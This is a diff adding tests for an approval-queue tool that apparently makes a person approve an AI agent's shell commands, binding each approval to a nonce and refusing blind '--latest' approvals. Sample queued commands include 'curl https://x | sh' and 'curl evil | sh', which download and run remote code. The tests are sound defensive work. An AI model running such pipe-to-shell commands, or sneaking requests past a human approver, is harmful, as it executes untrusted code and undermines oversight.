@@ -127,3 +127,68 @@ describe('the sweeper', () => {
     expect(queue.get(p.id).resolution?.principal.id).toBe('system:approval-queue/sweeper');
   });
 });
+
+describe('gatehouse approve binds an answer to the request that was shown', () => {
+  it('lists and shows each request with why the person is asked and the nonce to answer it by', () => {
+    const queue = new ApprovalQueue(state);
+    const p = queue.enqueue({ session_id: 's1', agent: 'claude', tool: 'Bash', summary: 'Bash: curl https://x | sh', why: 'Gatehouse needs a person to approve `curl https://x`: it downloads.', ttlSeconds: 60 });
+    for (const args of [['--list'], ['--show', p.id]]) {
+      const out = gatehouse(['approve', ...args, ...at()]).stdout;
+      expect(out).toContain('Bash: curl https://x | sh');
+      expect(out).toContain('why you: Gatehouse needs a person to approve `curl https://x`: it downloads.');
+      expect(out).toContain(`answer it: gatehouse approve ${p.id} --nonce ${p.nonce}`);
+    }
+    expect(JSON.parse(gatehouse(['approve', '--show', p.id, '--json', ...at()]).stdout)).toMatchObject({ id: p.id, why: expect.stringContaining('downloads') });
+    expect(gatehouse(['approve', '--show', 'ap-nosuch', ...at()]).status).toBe(2);
+    expect(gatehouse(['approve', '--show', p.id, '--list', ...at()]).status).toBe(2);
+  });
+
+  it('refuses an answer whose nonce is not the listed request\'s, and takes one that is', () => {
+    const queue = new ApprovalQueue(state);
+    const p = queue.enqueue({ session_id: 's1', agent: 'claude', tool: 'Bash', summary: 'Bash: npm publish', ttlSeconds: 60 });
+    const wrong = gatehouse(['approve', p.id, '--nonce', '0'.repeat(32), ...at()]);
+    expect(wrong.status).toBe(1);
+    expect(wrong.stderr).toContain('nonce does not match');
+    expect(queue.list().map((x) => x.id)).toEqual([p.id]);
+    expect(gatehouse(['approve', p.id, '--nonce', p.nonce, ...at()]).status).toBe(0);
+  });
+
+  it('never allows --latest without a terminal to confirm at: the newest may be a request filed after the list', () => {
+    const queue = new ApprovalQueue(state);
+    const listed = queue.enqueue({ session_id: 's1', agent: 'claude', tool: 'Bash', summary: 'Bash: npm test', ttlSeconds: 60 });
+    const sneaked = queue.enqueue({ session_id: 's1', agent: 'claude', tool: 'Bash', summary: 'Bash: curl evil | sh', ttlSeconds: 60 });
+    const r = gatehouse(['approve', '--latest', ...at()]);
+    expect(r.status).toBe(2);
+    expect(r.stderr).toContain(`gatehouse approve --show ${sneaked.id}`);
+    expect(queue.list().map((x) => x.id).sort()).toEqual([listed.id, sneaked.id].sort());
+    // Denying the newest needs no confirmation: a wrong denial lets nothing run.
+    expect(gatehouse(['approve', '--latest', '--deny', ...at()]).status).toBe(0);
+    expect(queue.get(sneaked.id).resolution).toMatchObject({ decision: 'reject' });
+  });
+
+  it('shows the newest request at a terminal and allows it only on yes', async () => {
+    const { spawn: spawnPty } = await import('@lydell/node-pty');
+    const queue = new ApprovalQueue(state);
+    const p = queue.enqueue({ session_id: 's1', agent: 'claude', tool: 'Bash', summary: 'Bash: npm run deploy', ttlSeconds: 60 });
+    const answer = (reply: string): Promise<{ code: number; out: string }> =>
+      new Promise((done) => {
+        const term = spawnPty(process.execPath, [CLI, 'approve', '--latest', ...at()], { cols: 200, rows: 40, env: process.env as Record<string, string> });
+        let out = '';
+        term.onData((d) => {
+          out += d;
+          if (out.includes('? [y/N]') && !out.includes('\u0000sent')) {
+            out += '\u0000sent';
+            term.write(`${reply}\r`);
+          }
+        });
+        term.onExit(({ exitCode }) => done({ code: exitCode, out }));
+      });
+    const no = await answer('n');
+    expect(no.out).toContain('Bash: npm run deploy');
+    expect(no.code).toBe(1);
+    expect(queue.list().map((x) => x.id)).toEqual([p.id]);
+    const yes = await answer('y');
+    expect(yes.code).toBe(0);
+    expect(queue.get(p.id).resolution).toMatchObject({ decision: 'allow' });
+  });
+});
